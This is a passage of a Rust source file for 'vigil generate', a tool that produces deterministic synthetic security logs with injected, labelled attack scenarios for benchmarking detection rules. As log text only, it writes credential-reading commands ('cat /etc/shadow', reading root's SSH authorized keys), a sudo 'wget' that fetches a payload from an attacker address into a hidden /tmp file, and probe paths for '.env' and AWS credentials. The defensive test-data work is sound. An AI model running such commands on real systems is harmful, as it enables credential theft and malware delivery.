//! `vigil generate`: deterministic, realistic mixed security traffic, so benchmarks and demos
//! need no external data.
//!
//! One seeded PCG generator (`Pcg64Mcg`, whose output is specified and the same on every
//! platform) drives every choice, entity names and addresses are pure functions of an entity
//! index, and the skewed picks use integer arithmetic only, so a configuration gives the same
//! bytes on every run and machine. Entities (users and their workstations, servers, internet addresses) are drawn
//! with a Zipf-like skew: a few are very busy and most are rare, as in real logs, which is what
//! keyed state and exchange balance need to be exercised with.
//!
//! The traffic is benign background. Attack scenarios are mixed in through [`Injection`]
//! ([`Injection::all`] for a demo), from attacker entities the background never uses, and
//! [`ground_truth`] lists exactly what was injected, so detections have a known signal against
//! realistic noise. For that reason the background avoids patterns that common rules flag (LSASS
//! read access, encoded PowerShell, root password guesses, downloads to /tmp, ...) and keeps the
//! per-entity counts the default rules (`topologies/rules`) correlate on bounded: a staff address
//! fails a password now and then, a user logs on over the network to at most three servers, a
//! web client's 404s go to a few stale links, and RC4 tickets are rare and for six accounts.
//!
//! The hot loop writes straight into the caller's buffer from constant tables with `itoa`: no
//! `format!` and no allocation per line.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};

// Named for what it is used as; PCG rather than `rand`'s SmallRng, which differs by platform.
use rand::{Rng, RngCore, SeedableRng};
use rand_pcg::Pcg64Mcg as SmallRng;

use crate::event::time;
use crate::parse::Format;

/// Which traffic to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, clap::ValueEnum)]
pub enum GenFormat {
    /// BSD syslog auth log (sshd, PAM, sudo, cron) from many Linux servers.
    Syslog,
    /// Apache combined access log.
    Apache,
    /// Zeek conn.log as JSON lines.
    Zeek,
    /// Zeek conn.log as TSV, with its `#separator`/`#fields`/`#types` header.
    ZeekTsv,
    /// Windows Security and Sysmon events as flat JSON lines (NXLog/OTRF style).
    Windows,
    /// Syslog, Apache, Zeek JSON and Windows interleaved in one stream.
    Mixed,
}

/// The formats a [`GenFormat::Mixed`] stream interleaves, in [`write_split`]'s file order.
pub const MIXED_PARTS: [GenFormat; 4] = [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::Windows];

impl GenFormat {
    /// The lowercase name used on the command line.
    pub fn name(self) -> &'static str {
        match self {
            GenFormat::Syslog => "syslog",
            GenFormat::Apache => "apache",
            GenFormat::Zeek => "zeek",
            GenFormat::ZeekTsv => "zeek-tsv",
            GenFormat::Windows => "windows",
            GenFormat::Mixed => "mixed",
        }
    }

    /// The parser format that reads this output; `None` for `Mixed`, which needs one per line.
    pub fn parser_format(self) -> Option<Format> {
        match self {
            GenFormat::Syslog => Some(Format::Syslog),
            GenFormat::Apache => Some(Format::Apache),
            GenFormat::Zeek | GenFormat::ZeekTsv => Some(Format::Zeek),
            GenFormat::Windows => Some(Format::Json),
            GenFormat::Mixed => None,
        }
    }

    /// The file name [`write_split`] uses for this format.
    pub fn file_name(self) -> &'static str {
        match self {
            GenFormat::Syslog => "sshd.log",
            GenFormat::Apache => "access.log",
            GenFormat::Zeek | GenFormat::ZeekTsv => "conn.log",
            GenFormat::Windows => "windows.json",
            GenFormat::Mixed => "mixed.log",
        }
    }
}

/// The timing and intensity of one injected attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Attack {
    /// Event time of the first line, as an offset from [`GeneratorConfig::start_ms`] in ms.
    pub start_ms: i64,
    /// Intensity: how many guesses, accounts, paths, ports, hosts, commands ... (see each
    /// [`Injection`] variant for what it counts and how many lines that makes).
    pub count: u32,
    /// Gap between two lines of the scenario in ms of event time; each line is due up to half
    /// a gap later than `n * interval_ms`, a deterministic jitter.
    pub interval_ms: u32,
}

impl Attack {
    const fn new(start_s: i64, count: u32, interval_ms: u32) -> Self {
        Attack { start_ms: start_s * 1000, count, interval_ms }
    }
}

/// An attack scenario mixed into the background traffic. Each emits its lines on the
/// generator's clock (they count toward `events`, replacing background lines), in the format
/// it names, from attacker entities (addresses, accounts, images) that the background never
/// uses, so [`ground_truth`] is exact. A scenario whose format the stream does not carry is
/// skipped, and one that is still running when the stream ends is cut short.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Injection {
    /// Syslog: `count` `Failed password` lines (mostly for root) from one internet address
    /// against one bastion host.
    SshBruteForce(Attack),
    /// Syslog: `count` failures for root from one address, then `Accepted password for root`
    /// from the same address (`count + 1` lines).
    SshBruteForceSuccess(Attack),
    /// Syslog: one address tries `count` distinct real account names, two rounds of one
    /// password each (`2 * count` lines).
    PasswordSpray(Attack),
    /// Syslog: `count` `Failed password for root` lines from one address, `interval_ms` apart
    /// (default 15 min: 4 an hour for 9 hours), below any per-minute brute-force threshold.
    LowAndSlow(Attack),
    /// Syslog: `count` `pam_unix(sshd:auth): authentication failure` lines from one `rhost`.
    PamBruteForce(Attack),
    /// Apache: one client (a content-discovery tool) requests `count` distinct missing paths,
    /// answered 404.
    WebScan(Attack),
    /// Zeek: one internet source probes `count` distinct TCP ports of one server (S0/REJ,
    /// SF for the few open ports).
    VerticalScan(Attack),
    /// Zeek: one internal source (a compromised host) probes port 445 on `count` servers.
    HorizontalScan(Attack),
    /// Syslog, server compromise chain: `Accepted password` from an internet address for a
    /// service account, then `count` sudo commands: recon/persistence (`id`, `cat /etc/shadow`,
    /// `crontab -l`, ...) ending with a `wget` download of a payload (`count + 1` lines).
    CompromiseChain(Attack),
    /// Windows: `count` 4625 logon failures, one per account, from one source address.
    WindowsLogonFailures(Attack),
    /// Windows: one account requests RC4 (0x17) service tickets (4769) for `count` service
    /// accounts.
    Kerberoasting(Attack),
    /// Windows: one account logs on over the network (4624, type 3, NTLM) to `count`
    /// workstations.
    LateralMovement(Attack),
    /// Windows: `count` Sysmon 10 accesses to lsass.exe with 0x1010/0x1410 from a dropped tool.
    LsassAccess(Attack),
}

impl Injection {
    /// Every scenario with its default timing, staggered over the first five minutes of a
    /// stream (a default 1,000,000-event stream spans about 500 s); `LowAndSlow` needs hours.
    pub fn all() -> Vec<Injection> {
        vec![
            Injection::SshBruteForce(Attack::new(30, 60, 500)),
            Injection::SshBruteForceSuccess(Attack::new(60, 30, 1_000)),
            Injection::PasswordSpray(Attack::new(90, 40, 1_500)),
            Injection::LowAndSlow(Attack::new(10, 36, 900_000)),
            Injection::PamBruteForce(Attack::new(120, 40, 700)),
            Injection::WebScan(Attack::new(45, 200, 150)),
            Injection::VerticalScan(Attack::new(75, 300, 50)),
            Injection::HorizontalScan(Attack::new(150, 200, 80)),
            Injection::CompromiseChain(Attack::new(200, 6, 8_000)),
            Injection::WindowsLogonFailures(Attack::new(100, 40, 600)),
            Injection::Kerberoasting(Attack::new(180, 12, 400)),
            Injection::LateralMovement(Attack::new(240, 8, 15_000)),
            Injection::LsassAccess(Attack::new(300, 2, 2_000)),
        ]
    }

    /// The scenario's name, as [`InjectedAttack::kind`] gives it.
    pub fn kind(&self) -> &'static str {
        match self {
            Injection::SshBruteForce(_) => "ssh_brute_force",
            Injection::SshBruteForceSuccess(_) => "ssh_brute_force_success",
            Injection::PasswordSpray(_) => "password_spray",
            Injection::LowAndSlow(_) => "low_and_slow",
            Injection::PamBruteForce(_) => "pam_brute_force",
            Injection::WebScan(_) => "web_scan",
            Injection::VerticalScan(_) => "vertical_port_scan",
            Injection::HorizontalScan(_) => "horizontal_port_scan",
            Injection::CompromiseChain(_) => "compromise_chain",
            Injection::WindowsLogonFailures(_) => "windows_logon_failures",
            Injection::Kerberoasting(_) => "kerberoasting",
            Injection::LateralMovement(_) => "lateral_movement",
            Injection::LsassAccess(_) => "lsass_access",
        }
    }

    /// Timing and intensity.
    pub fn attack(&self) -> Attack {
        match *self {
            Injection::SshBruteForce(a)
            | Injection::SshBruteForceSuccess(a)
            | Injection::PasswordSpray(a)
            | Injection::LowAndSlow(a)
            | Injection::PamBruteForce(a)
            | Injection::WebScan(a)
            | Injection::VerticalScan(a)
            | Injection::HorizontalScan(a)
            | Injection::CompromiseChain(a)
            | Injection::WindowsLogonFailures(a)
            | Injection::Kerberoasting(a)
            | Injection::LateralMovement(a)
            | Injection::LsassAccess(a) => a,
        }
    }

    /// The format its lines are in (Zeek lines follow the stream: JSON, or TSV in a TSV stream).
    pub fn format(&self) -> GenFormat {
        match self {
            Injection::SshBruteForce(_)
            | Injection::SshBruteForceSuccess(_)
            | Injection::PasswordSpray(_)
            | Injection::LowAndSlow(_)
            | Injection::PamBruteForce(_)
            | Injection::CompromiseChain(_) => GenFormat::Syslog,
            Injection::WebScan(_) => GenFormat::Apache,
            Injection::VerticalScan(_) | Injection::HorizontalScan(_) => GenFormat::Zeek,
            Injection::WindowsLogonFailures(_) | Injection::Kerberoasting(_) | Injection::LateralMovement(_) | Injection::LsassAccess(_) => GenFormat::Windows,
        }
    }

    /// Number of lines the scenario writes when the stream is long enough.
    pub fn lines(&self) -> u64 {
        let count = self.attack().count as u64;
        match self {
            Injection::SshBruteForceSuccess(_) | Injection::CompromiseChain(_) => count + 1,
            Injection::PasswordSpray(_) => 2 * count,
            _ => count,
        }
    }

    /// The format it is written in within a stream of `stream` format, if that stream carries it.
    fn output_format(&self, stream: GenFormat) -> Option<GenFormat> {
        match (self.format(), stream) {
            (GenFormat::Zeek, GenFormat::ZeekTsv) => Some(GenFormat::ZeekTsv),
            (f, GenFormat::Mixed) => Some(f),
            (f, s) if f == s => Some(f),
            _ => None,
        }
    }
}

/// One injected attack as it was written: the ground truth a detection is scored against.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct InjectedAttack {
    /// [`Injection::kind`].
    pub kind: &'static str,
    /// The attacker entity, as the field the detection groups by carries it: the source
    /// address (`source.ip`, Windows `IpAddress`) for network and SSH scenarios, the account
    /// (`TargetUserName`) for Kerberoasting and lateral movement, the tool's `SourceImage` for
    /// LSASS access.
    pub entity: String,
    /// Event time of the first line, in ms, as the line carries it (syslog and Apache lines have
    /// whole seconds).
    pub start_ms: i64,
    /// Event time of the last line, in ms, likewise.
    pub end_ms: i64,
    /// The format of its lines (`ZeekTsv` for scans in a TSV stream).
    pub format: GenFormat,
    /// Lines written (fewer than [`Injection::lines`] when the stream ended first).
    pub lines: u64,
}

/// The attacks `cfg` injects, exactly as its stream carries them (runs the generator and throws
/// the bytes away; a scenario none of whose lines fit in the stream is absent).
pub fn ground_truth(cfg: &GeneratorConfig) -> Vec<InjectedAttack> {
    let mut generator = Generator::new(cfg.clone());
    let mut buf = Vec::with_capacity(4096);
    while generator.next_line(&mut buf).is_some() {
        buf.clear();
    }
    generator.injected()
}

/// The run-time state of one scenario.
struct Scheduled {
    injection: Injection,
    /// Its position in the configuration: picks its attacker entities.
    slot: u64,
    format: GenFormat,
    entity: String,
    lines: u64,
    next: u64,
    /// Event time (µs) at which line `next` is due.
    due_us: i64,
    first_ms: i64,
    last_ms: i64,
    base_us: i64,
}

impl Scheduled {
    fn due(&self, n: u64) -> i64 {
        let gap = self.injection.attack().interval_ms as i64 * 1000;
        let jitter = if gap >= 2 { (splitmix(self.slot << 32 ^ n) % (gap as u64 / 2)) as i64 } else { 0 };
        self.base_us.saturating_add((n as i64).saturating_mul(gap)).saturating_add(jitter)
    }
}

/// First octets of the attackers' internet addresses: none is in [`PUBLIC_FIRST_OCTETS`], so
/// no background address can equal one.
const ATTACKER_FIRST_OCTETS: [u8; 6] = [61, 218, 92, 179, 43, 116];

/// The internet address of the attacker of scenario `slot` (`salt` picks a second one).
fn attacker_ip(slot: u64, salt: u64) -> [u8; 4] {
    let h = splitmix(slot ^ (salt << 20) ^ 0xa77a_c4e5);
    [ATTACKER_FIRST_OCTETS[(h % ATTACKER_FIRST_OCTETS.len() as u64) as usize], (h >> 8) as u8, (h >> 16) as u8, (1 + (h >> 24) % 254) as u8]
}

/// An internal address of a compromised host: 10.255.0.0/16, which neither workstations
/// (10.1-254.x.x) nor servers (10.0.x.x) use.
fn insider_ip(slot: u64) -> [u8; 4] {
    let h = splitmix(slot ^ 0x1d5e_7000);
    [10, 255, (h >> 8) as u8, (1 + (h >> 16) % 254) as u8]
}

fn ip_string(ip: [u8; 4]) -> String {
    let mut out = Vec::with_capacity(15);
    put_ipv4(&mut out, ip);
    String::from_utf8(out).unwrap_or_default()
}

/// Accounts the attacker-controlled names are built from; none is a background first name.
fn attacker_account(slot: u64, prefix: &str) -> String {
    format!("{prefix}{}", slot + 1)
}

const SCAN_PATHS: &[&[u8]] = &[
    b"/.env",
    b"/.git/config",
    b"/wp-login.php",
    b"/wp-admin/",
    b"/phpmyadmin/",
    b"/admin",
    b"/administrator/",
    b"/backup",
    b"/config",
    b"/db",
    b"/dump",
    b"/old",
    b"/test",
    b"/server-status",
    b"/shell",
    b"/cgi-bin/test",
    b"/console",
    b"/manager/html",
    b"/.aws/credentials",
    b"/vendor/phpunit",
    b"/private",
    b"/upload",
    b"/uploads/shell",
    b"/install",
    b"/setup",
    b"/debug",
    b"/actuator/env",
    b"/solr/admin",
    b"/jenkins",
    b"/.svn/entries",
];
const SCAN_SUFFIXES: &[&[u8]] = &[b"", b".php", b".bak", b".zip", b".old", b".tar.gz", b"~", b".sql", b".txt", b"/index.php"];
const SCANNER_AGENT: &[u8] = b"gobuster/3.6";

/// Ports a port scanner tries first (nmap's top ports), then it walks upward from 1.
const TOP_PORTS: &[u64] = &[21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080];
/// Ports the scanned server answers on.
const OPEN_PORTS: &[u64] = &[22, 80, 443];

/// Service accounts with SPNs: the background's six and ones it never requests.
const ROASTED_SERVICES: &[&[u8]] = &[
    b"svc_sql",
    b"svc_web",
    b"svc_backup",
    b"svc_sharepoint",
    b"svc_jenkins",
    b"svc_reporting",
    b"svc_mssql_dev",
    b"svc_exchange",
    b"svc_adfs",
    b"svc_crm",
    b"svc_sccm",
    b"svc_vcenter",
    b"svc_splunk",
    b"svc_bamboo",
    b"svc_oracle",
    b"svc_citrix",
];

/// The recon and persistence commands of the compromise chain; its last command is a download.
const CHAIN_COMMANDS: &[&[u8]] = &[
    b"/usr/bin/id",
    b"/bin/uname -a",
    b"/bin/cat /etc/shadow",
    b"/usr/bin/crontab -l",
    b"/bin/ps aux",
    b"/usr/bin/last -n 20",
    b"/bin/cat /root/.ssh/authorized_keys",
];

/// 2024-01-15T08:00:00Z, a Monday morning: the default start of simulated time.
pub const DEFAULT_START_MS: i64 = 1_705_305_600_000;

/// What to generate.
#[derive(Clone, Debug)]
pub struct GeneratorConfig {
    /// Seed of every random choice; the same configuration always gives the same bytes.
    pub seed: u64,
    /// Number of records to produce (Zeek TSV's `#` header and `#close` lines are extra).
    pub events: u64,
    /// Which traffic to produce.
    pub format: GenFormat,
    /// Event time of the first record, in ms since the epoch (also gives syslog's implied year).
    pub start_ms: i64,
    /// Mean records per second of simulated event time.
    pub rate_per_sec: f64,
    /// Scale of the entity populations: users (and their workstations) and internet addresses.
    pub entities: usize,
    /// Attack scenarios mixed into the background (see [`Injection`]).
    pub injections: Vec<Injection>,
}

impl Default for GeneratorConfig {
    fn default() -> Self {
        GeneratorConfig {
            seed: 1,
            events: 1_000_000,
            format: GenFormat::Mixed,
            start_ms: DEFAULT_START_MS,
            rate_per_sec: 2_000.0,
            entities: 10_000,
            injections: Vec::new(),
        }
    }
}

impl GeneratorConfig {
    /// The calendar year of `start_ms`: the year to parse the generated syslog with (syslog
    /// timestamps carry none). A run whose simulated time crosses New Year needs year inference.
    pub fn year(&self) -> i32 {
        time::civil_from_days(self.start_ms.div_euclid(time::MS_PER_DAY)).0 as i32
    }
}

/// Produces the configured traffic one line at a time.
pub struct Generator {
    format: GenFormat,
    events: u64,
    scheduled: Vec<Scheduled>,
    /// Earliest due time of a pending injected line (`i64::MAX` when none is pending).
    next_due_us: i64,
    emitted: u64,
    rng: SmallRng,
    clock: Clock,
    world: World,
    sha256: Vec<[u8; 64]>,
}

impl Generator {
    /// Creates a generator; a non-positive or non-finite rate falls back to the default.
    pub fn new(cfg: GeneratorConfig) -> Self {
        let rate = if cfg.rate_per_sec.is_finite() && cfg.rate_per_sec > 0.0 { cfg.rate_per_sec } else { 2_000.0 };
        // Image hashes are fixed per image, as they are for one build of a binary fleet-wide.
        let sha256 = (0..PROCS.len() as u64)
            .map(|i| {
                let mut hex = [0u8; 64];
                for (j, chunk) in hex.chunks_mut(16).enumerate() {
                    let h = splitmix((i * 4 + j as u64) ^ 0x5a5a_5a5a);
                    for (k, b) in chunk.iter_mut().enumerate() {
                        *b = HEX_UPPER[((h >> (k * 4)) & 15) as usize];
                    }
                }
                hex
            })
            .collect();
        let scheduled = Generator::schedule(&cfg);
        let next_due_us = scheduled.iter().map(|s| s.due_us).min().unwrap_or(i64::MAX);
        Generator {
            format: cfg.format,
            events: cfg.events,
            scheduled,
            next_due_us,
            emitted: 0,
            rng: SmallRng::seed_from_u64(cfg.seed),
            clock: Clock::new(cfg.start_ms, rate),
            world: World::new(cfg.entities.max(1) as u64),
            sha256,
        }
    }

    /// Records produced so far.
    pub fn emitted(&self) -> u64 {
        self.emitted
    }

    /// Appends the next record and its `\n` to `out` and returns its format (never `Mixed`);
    /// `None` when done. For Zeek TSV the first call also appends the header, and the last the
    /// `#close` line, as Zeek writes them.
    pub fn next_line(&mut self, out: &mut Vec<u8>) -> Option<GenFormat> {
        if self.emitted >= self.events {
            return None;
        }
        if self.emitted == 0 && self.format == GenFormat::ZeekTsv {
            self.zeek_tsv_header(out);
        }
        self.clock.tick(&mut self.rng);
        let format = match self.inject(out) {
            Some(format) => format,
            None => {
                let format = match self.format {
                    GenFormat::Mixed => match self.rng.gen_range(0..100u32) {
                        0..=19 => GenFormat::Syslog,
                        20..=49 => GenFormat::Apache,
                        50..=84 => GenFormat::Zeek,
                        _ => GenFormat::Windows,
                    },
                    single => single,
                };
                match format {
                    GenFormat::Syslog => self.syslog(out),
                    GenFormat::Apache => self.apache(out),
                    GenFormat::Zeek => {
                        let conn = self.conn();
                        self.conn_json(&conn, out);
                    }
                    GenFormat::ZeekTsv => {
                        let conn = self.conn();
                        self.conn_tsv(&conn, out);
                    }
                    GenFormat::Windows => self.windows(out),
                    GenFormat::Mixed => unreachable!("Mixed resolves to one format per line"),
                }
                format
            }
        };
        out.push(b'\n');
        self.emitted += 1;
        if self.emitted == self.events && self.format == GenFormat::ZeekTsv {
            out.extend_from_slice(b"#close\t");
            put_zeek_stamp(out, self.clock.now_us.div_euclid(1000));
            out.push(b'\n');
        }
        Some(format)
    }

    // ---- injected attacks ---------------------------------------------------------------------

    /// The attacks injected so far, with the event times their lines carry.
    pub fn injected(&self) -> Vec<InjectedAttack> {
        self.scheduled
            .iter()
            .filter(|s| s.next > 0)
            .map(|s| InjectedAttack {
                kind: s.injection.kind(),
                entity: s.entity.clone(),
                start_ms: s.first_ms,
                end_ms: s.last_ms,
                format: s.format,
                lines: s.next,
            })
            .collect()
    }

    fn schedule(cfg: &GeneratorConfig) -> Vec<Scheduled> {
        let mut scheduled = Vec::new();
        for (slot, injection) in cfg.injections.iter().enumerate() {
            let Some(format) = injection.output_format(cfg.format) else { continue };
            let slot = slot as u64;
            let entity = match injection {
                Injection::HorizontalScan(_) | Injection::WindowsLogonFailures(_) => ip_string(insider_ip(slot)),
                Injection::Kerberoasting(_) => format!("{}@CORP.EXAMPLE.COM", attacker_account(slot, "helpdesk")),
                Injection::LateralMovement(_) => attacker_account(slot, "itadmin"),
                Injection::LsassAccess(_) => format!(r"C:\Users\Public\Downloads\svcupd{}.exe", slot + 1),
                _ => ip_string(attacker_ip(slot, 0)),
            };
            let base_us = cfg.start_ms.saturating_add(injection.attack().start_ms).saturating_mul(1000);
            let mut s =
                Scheduled { injection: *injection, slot, format, entity, lines: injection.lines(), next: 0, due_us: 0, first_ms: 0, last_ms: 0, base_us };
            s.due_us = s.due(0);
            if s.lines > 0 {
                scheduled.push(s);
            }
        }
        scheduled
    }

    /// The hook where attack scenarios take their turn before the background traffic: the
    /// scenario whose next line is due earliest (at or before the current event time) writes it
    /// and names its format.
    fn inject(&mut self, out: &mut Vec<u8>) -> Option<GenFormat> {
        let now = self.clock.now_us;
        if self.next_due_us > now {
            return None;
        }
        let mut best: Option<usize> = None;
        for (i, s) in self.scheduled.iter().enumerate() {
            if s.next < s.lines && s.due_us <= now && best.is_none_or(|b| s.due_us < self.scheduled[b].due_us) {
                best = Some(i);
            }
        }
        let i = best?;
        let (injection, slot, n, format) = {
            let s = &self.scheduled[i];
            (s.injection, s.slot, s.next, s.format)
        };
        let entity = std::mem::take(&mut self.scheduled[i].entity);
        self.write_attack(injection, slot, n, format, entity.as_bytes(), out);
        let ts_ms = match format {
            GenFormat::Syslog | GenFormat::Apache => self.clock.second.saturating_mul(1000),
            _ => now.div_euclid(1000),
        };
        let s = &mut self.scheduled[i];
        s.entity = entity;
        if n == 0 {
            s.first_ms = ts_ms;
        }
        s.last_ms = ts_ms;
        s.next += 1;
        s.due_us = s.due(s.next);
        self.next_due_us = self.scheduled.iter().filter(|s| s.next < s.lines).map(|s| s.due_us).min().unwrap_or(i64::MAX);
        Some(format)
    }

    /// Writes line `n` of scenario `injection` (configuration slot `slot`), without its `\n`.
    fn write_attack(&mut self, injection: Injection, slot: u64, n: u64, format: GenFormat, entity: &[u8], out: &mut Vec<u8>) {
        let count = injection.attack().count as u64;
        let h = splitmix(slot << 40 ^ n ^ 0x0bad_5eed);
        let port = 32_768 + h % 28_000;
        let pid = 2_000 + (h >> 20) % 60_000;
        let bastion = Role::Bastion as u64;
        match injection {
            Injection::SshBruteForce(_) | Injection::SshBruteForceSuccess(_) | Injection::LowAndSlow(_) | Injection::PasswordSpray(_) => {
                // The low-and-slow guesser works on the second bastion, the others on the first.
                let server = match injection {
                    Injection::LowAndSlow(_) => bastion + ROLES.len() as u64 * (1 % self.world.role_count(bastion)),
                    _ => bastion,
                };
                self.syslog_head(out, server, b"sshd", pid);
                match injection {
                    Injection::SshBruteForceSuccess(_) if n == count => out.extend_from_slice(b"Accepted password for root from "),
                    Injection::PasswordSpray(_) => {
                        out.extend_from_slice(b"Failed password for ");
                        put_user(out, scatter(n % count.max(1), self.world.users));
                        out.extend_from_slice(b" from ");
                    }
                    Injection::SshBruteForce(_) if n % 5 == 4 => {
                        out.extend_from_slice(b"Failed password for invalid user ");
                        out.extend_from_slice(INVALID_USERS[(n / 5 % INVALID_USERS.len() as u64) as usize]);
                        out.extend_from_slice(b" from ");
                    }
                    _ => out.extend_from_slice(b"Failed password for root from "),
                }
                out.extend_from_slice(entity);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2");
            }
            Injection::PamBruteForce(_) => {
                self.syslog_head(out, Role::Vpn as u64, b"sshd", pid);
                out.extend_from_slice(b"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"  user=root");
            }
            Injection::CompromiseChain(_) => {
                let account = attacker_account(slot, "webadmin");
                if n == 0 {
                    self.syslog_head(out, Role::Web as u64, b"sshd", pid);
                    out.extend_from_slice(b"Accepted password for ");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" from ");
                    out.extend_from_slice(entity);
                    out.extend_from_slice(b" port ");
                    put_u64(out, port);
                    out.extend_from_slice(b" ssh2");
                } else {
                    out.extend_from_slice(&self.clock.syslog);
                    out.push(b' ');
                    self.world.put_server(out, Role::Web as u64);
                    out.extend_from_slice(b" sudo:   ");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" : TTY=pts/0 ; PWD=/home/");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" ; USER=root ; COMMAND=");
                    if n == count {
                        out.extend_from_slice(b"/usr/bin/wget -q http://");
                        put_ipv4(out, attacker_ip(slot, 1));
                        out.extend_from_slice(b"/.x/kworker.sh -O /tmp/.kworker");
                    } else {
                        out.extend_from_slice(CHAIN_COMMANDS[((n - 1) % CHAIN_COMMANDS.len() as u64) as usize]);
                    }
                }
            }
            Injection::WebScan(_) => {
                out.extend_from_slice(entity);
                out.extend_from_slice(b" - - [");
                out.extend_from_slice(&self.clock.clf);
                out.extend_from_slice(b"] \"GET ");
                let paths = SCAN_PATHS.len() as u64;
                let suffixes = SCAN_SUFFIXES.len() as u64;
                out.extend_from_slice(SCAN_PATHS[(n % paths) as usize]);
                out.extend_from_slice(SCAN_SUFFIXES[(n / paths % suffixes) as usize]);
                if n >= paths * suffixes {
                    out.push(b'/');
                    put_u64(out, n / (paths * suffixes));
                }
                out.extend_from_slice(b" HTTP/1.1\" 404 ");
                put_u64(out, 196 + h % 40);
                out.extend_from_slice(b" \"-\" \"");
                out.extend_from_slice(SCANNER_AGENT);
                out.push(b'"');
            }
            Injection::VerticalScan(_) | Injection::HorizontalScan(_) => {
                let vertical = matches!(injection, Injection::VerticalScan(_));
                let (orig, resp, resp_p) = if vertical {
                    let top = TOP_PORTS.len() as u64;
                    let port = if n < top { TOP_PORTS[n as usize] } else { 10_000 + (n - top) % 55_536 };
                    (attacker_ip(slot, 0), self.world.server_ip(Role::Web as u64), port)
                } else {
                    (insider_ip(slot), [10, 0, (n / 250 % 256) as u8, (1 + n % 250) as u8], 445)
                };
                let open = if vertical { OPEN_PORTS.contains(&resp_p) } else { h.is_multiple_of(10) };
                let mut c = Conn {
                    uid: self.new_uid(),
                    orig,
                    // One raw socket per scan: the source port stays.
                    orig_p: 40_000 + splitmix(slot) % 20_000,
                    resp,
                    resp_p,
                    proto: b"tcp",
                    service: None,
                    state: b"S0",
                    history: Some(b"S"),
                    duration_us: None,
                    bytes: None,
                    orig_pkts: 1,
                    resp_pkts: 0,
                };
                if open {
                    // SYN, SYN-ACK, then the scanner's RST.
                    c.state = b"RSTO";
                    c.history = Some(b"ShR");
                    c.orig_pkts = 2;
                    c.resp_pkts = 1;
                    c.duration_us = Some(200 + h % 2_000);
                    c.bytes = Some((0, 0));
                } else if h >> 8 & 1 == 0 {
                    c.state = b"REJ";
                    c.history = Some(b"Sr");
                    c.resp_pkts = 1;
                    c.duration_us = Some(20 + h % 3_000);
                    c.bytes = Some((0, 0));
                }
                if format == GenFormat::ZeekTsv {
                    self.conn_tsv(&c, out);
                } else {
                    self.conn_json(&c, out);
                }
            }
            Injection::WindowsLogonFailures(_) => {
                self.win_head(out, Host::Server(Role::File as u64), 4625, Channel::Failure);
                out.extend_from_slice(b"\"TargetUserSid\":\"S-1-0-0\",\"TargetUserName\":\"");
                put_user(out, scatter(n, self.world.users));
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc000006a\",\"FailureReason\":\"%%2313\",\"LogonType\":\"3\",\"LogonProcessName\":\"NtLmSsp \",\"AuthenticationPackageName\":\"NTLM\",\"WorkstationName\":\"");
                put_attacker_host(out, slot);
                out.extend_from_slice(b"\",\"IpAddress\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\"}");
            }
            Injection::Kerberoasting(_) => {
                self.win_head(out, Host::Server(Role::Dc as u64), 4769, Channel::Success);
                out.extend_from_slice(b"\"TargetUserName\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP.EXAMPLE.COM\",\"ServiceName\":\"");
                let service = (n % ROASTED_SERVICES.len() as u64) as usize;
                out.extend_from_slice(ROASTED_SERVICES[service]);
                out.extend_from_slice(b"\",\"ServiceSid\":\"");
                out.extend_from_slice(DOMAIN_SID);
                put_u64(out, SERVICE_RID_BASE + service as u64);
                out.extend_from_slice(b"\",\"TicketOptions\":\"0x40810000\",\"TicketEncryptionType\":\"0x17\",\"IpAddress\":\"::ffff:");
                put_ipv4(out, insider_ip(slot));
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\",\"Status\":\"0x0\",\"LogonGuid\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"TransmittedServices\":\"-\"}");
            }
            Injection::LateralMovement(_) => {
                let target = scatter(n * 7 + 3 + slot, self.world.users);
                self.win_head(out, Host::Ws(target), 4624, Channel::Success);
                out.extend_from_slice(b"\"TargetUserSid\":\"");
                out.extend_from_slice(DOMAIN_SID);
                put_u64(out, ATTACKER_RID_BASE + slot);
                out.extend_from_slice(b"\",\"TargetUserName\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",\"TargetLogonId\":\"0x");
                put_hex(out, 0x10000 + h % 0x0fff_0000);
                out.extend_from_slice(
                    b"\",\"LogonType\":\"3\",\"LogonProcessName\":\"NtLmSsp \",\"AuthenticationPackageName\":\"NTLM\",\"WorkstationName\":\"",
                );
                put_attacker_host(out, slot);
                out.extend_from_slice(b"\",\"IpAddress\":\"");
                put_ipv4(out, insider_ip(slot));
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\"}");
            }
            Injection::LsassAccess(_) => {
                let victim = scatter(slot * 13 + 5, self.world.users);
                self.win_head(out, Host::Ws(victim), 10, Channel::Sysmon);
                self.utc_time(out);
                out.extend_from_slice(b",\"SourceProcessGUID\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"SourceProcessId\":\"");
                put_u64(out, pid & !3);
                out.extend_from_slice(b"\",\"SourceImage\":\"");
                for &b in entity {
                    if b == b'\\' {
                        out.push(b'\\');
                    }
                    out.push(b);
                }
                out.extend_from_slice(b"\",\"TargetProcessGUID\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"TargetProcessId\":\"");
